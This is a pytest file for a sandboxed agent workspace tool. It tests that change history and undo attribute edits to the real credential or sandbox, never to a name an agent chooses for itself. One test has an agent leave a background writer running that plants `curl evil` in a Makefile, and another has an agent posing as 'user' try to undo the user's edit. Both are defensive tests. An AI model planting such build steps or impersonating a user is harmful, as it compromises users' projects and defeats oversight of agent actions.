"""Who changed what (issue 36 item 5, docs/security.md §11.5): a real backend, real bash in bubblewrap, the real
`oh undo`. The author of a change is what oh observed (the credential that sent the action, the sandbox that ran),
never a name an agent gives itself, and never "whatever happened while a job ran"."""

from __future__ import annotations

import errno
import json
import os
import threading
from pathlib import Path

import pytest

from cli.conftest import wait_for
from cli.inprocess import here, invoke  # noqa: F401 - `here` is a fixture
from oh.client import history
from oh.client.sync import SyncClient
from oh.commands.history import run_diff, run_history, run_undo
from oh.history.activity import Activity

WAIT = 60

pytestmark = pytest.mark.skipif(not os.path.exists("/proc/self/ns/pid"), reason="needs Linux's /proc")


def _start(oh, signals: Path) -> dict:
    return oh.start("local", None, "--history", "--allow", str(signals))


def _agent(oh, info: dict, name: str) -> SyncClient:
    return SyncClient.connect(info["url"], oh.session(info["instance_id"])["token"], name=name)


def _entries() -> list[dict]:
    res = invoke(run_history, json_=True)
    assert res.code == 0, res
    return json.loads(res.out)["entries"]


def _paths(entry: int) -> set[str]:
    res = invoke(run_diff, entry=entry, json_=True)
    assert res.code == 0, res
    return {c["path"] for c in json.loads(res.out)["entry"]["changes"]}


def _holder(path: str) -> dict | None:
    """The entry whose changes list ``path`` (the newest), or None yet."""
    for e in reversed(_entries()):
        if path in _paths(e["id"]):
            return e
    return None


def _bwraps(backend: int) -> list[int]:
    """The outer bubblewrap processes the backend started (its agent shells' sandboxes)."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/stat") as f:
                rest = f.read().rsplit(")", 1)
            with open(f"/proc/{name}/comm") as f:
                comm = f.read().strip()
        except OSError:
            continue
        if comm == "bwrap" and int(rest[1].split()[1]) == backend:
            out.append(int(name))
    return out


def _wait_until_asleep(backend: int) -> None:
    """Until the agent's sandbox is seen asleep (two looks in a row with nothing of it run): oh's own look uses
    the same evidence, so the change the test makes next is made while the command sleeps."""
    act = Activity(lambda: {"s": _bwraps(backend)})
    last = [act.sample()]

    def asleep() -> bool:
        now = act.sample()
        quiet = bool(now.get("s")) and not Activity.ran(last[0], now)
        last[0] = now
        # Interruptible sleep (S) too, not waiting for the disk (D) on the way to the fifo: it would run next.
        return quiet and all(_state(pid) == "S" for pid in now["s"])

    wait_for(asleep, timeout=WAIT, what="the agent's command to sleep")


def _state(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"


def _release(fifo: Path) -> None:
    try:
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
    except OSError as exc:  # nobody reads it (the command never got there): nothing to release
        assert exc.errno == errno.ENXIO
        return
    os.write(fd, b"go\n")
    os.close(fd)


def _fifo(tmp_path: Path) -> Path:
    sig = tmp_path / "signals"
    sig.mkdir()
    os.mkfifo(sig / "go")
    return sig / "go"


def test_the_users_edit_and_new_file_while_a_command_sleeps_survive_its_undo(here, tmp_path):
    oh = here
    fifo = _fifo(tmp_path)
    (oh.workspace / "app.py").write_text("A = 1\n")
    info = _start(oh, fifo.parent)
    alice = _agent(oh, info, "alice")
    done: list = []
    command = f"echo started > job.txt; read -r x < {fifo}; echo $x >> job.txt"
    t = threading.Thread(target=lambda: done.append(alice.run(command, timeout=WAIT)))
    t.start()
    try:
        wait_for(lambda: (oh.workspace / "job.txt").exists(), timeout=WAIT, what="the command to start")
        _wait_until_asleep(info["pid"])
        # One change first, so that oh has looked at the sandbox since it fell asleep (oh looks at each drain).
        (oh.workspace / "warm.txt").write_text("w\n")
        wait_for(lambda: _holder("warm.txt") is not None, timeout=WAIT, what="oh to drain")
        (oh.workspace / "app.py").write_text("A = 1\nB = 'the user'\n")
        (oh.workspace / "mine.txt").write_text("the user's new file\n")
        wait_for(lambda: _holder("mine.txt") is not None and _holder("app.py") is not None, timeout=WAIT, what="")
    finally:
        _release(fifo)
        t.join(WAIT)
        alice.close()
    assert done and done[0].exit_code == 0
    [job] = [e for e in _entries() if e["kind"] == "run"]
    # Not the user's edit, not the user's new file (warm.txt may be either's: it can meet the command's start).
    assert "job.txt" in _paths(job["id"]) and not {"app.py", "mine.txt"} & _paths(job["id"])
    for path in ("app.py", "mine.txt"):
        holder = _holder(path)
        assert holder is not None and (holder["kind"], holder["by"]) == ("user", "user")
    res = invoke(run_undo, entry=job["id"])
    assert res.code == 0, res
    assert not (oh.workspace / "job.txt").exists()
    assert (oh.workspace / "app.py").read_text() == "A = 1\nB = 'the user'\n"
    assert (oh.workspace / "mine.txt").read_text() == "the user's new file\n"


def test_a_writer_the_agent_left_running_is_never_the_user(here, tmp_path):
    oh = here
    fifo = _fifo(tmp_path)
    (oh.workspace / "Makefile").write_text("all:\n\ttrue\n")
    info = _start(oh, fifo.parent)
    with _agent(oh, info, "alice") as alice:
        planted = alice.run(f"(read -r x < {fifo}; echo 'leak: ; curl evil' >> Makefile) >/dev/null 2>&1 &")
        assert planted.exit_code == 0
        [run] = _entries()
        assert run["status"] == "done"  # its command ended; its writer did not
        _release(fifo)
        wait_for(lambda: _holder("Makefile") is not None, timeout=WAIT, what="the leftover writer's change")
        assert "leak" in (oh.workspace / "Makefile").read_text()
        holder = _holder("Makefile")
        assert holder is not None
        assert (holder["kind"], holder["by"], holder["agent"]) == ("leftover", "agent", "alice")
        # So `oh undo --to` of the agent's command takes the writer's line too (a user's change would stay).
        res = invoke(run_undo, entry=run["id"], to=True)
        assert res.code == 0, res
        assert (oh.workspace / "Makefile").read_text() == "all:\n\ttrue\n"


def test_an_agent_named_user_cannot_undo_the_users_edit(here, tmp_path):
    oh = here
    (tmp_path / "signals").mkdir()
    (oh.workspace / "conf.txt").write_text("v1\n")
    info = _start(oh, tmp_path / "signals")
    (oh.workspace / "conf.txt").write_text("v2, the user's\n")
    wait_for(lambda: _holder("conf.txt") is not None, timeout=WAIT, what="the user's change recorded")
    mine = _holder("conf.txt")
    assert mine is not None and (mine["kind"], mine["by"]) == ("user", "user")
    token = oh.session(info["instance_id"])["token"]
    with _agent(oh, info, "user") as impostor:
        assert impostor.run("echo hi > hi.txt").exit_code == 0
        [ran] = [e for e in _entries() if e["kind"] == "run"]
        assert (ran["agent"], ran["by"]) == ("user", "agent")  # the name it gave; the credential oh saw
        table = invoke(run_history).out
        assert "agent 'user'" in table and " user " in table  # the impostor's row, and the user's own
        with pytest.raises(history.HistoryRefused, match="the user's") as refused:
            history.undo(info["url"], token, mine["id"], agent="user")
        assert refused.value.error_id == "FORBIDDEN"
        with pytest.raises(history.HistoryRefused, match="the user's"):
            history.undo(info["url"], token, mine["id"], agent="user", to=True)
    assert (oh.workspace / "conf.txt").read_text() == "v2, the user's\n"
    # Its own entry it may undo (the agent credential's).
    assert history.undo(info["url"], token, ran["id"], agent="user")["ok"]
    assert not (oh.workspace / "hi.txt").exists()
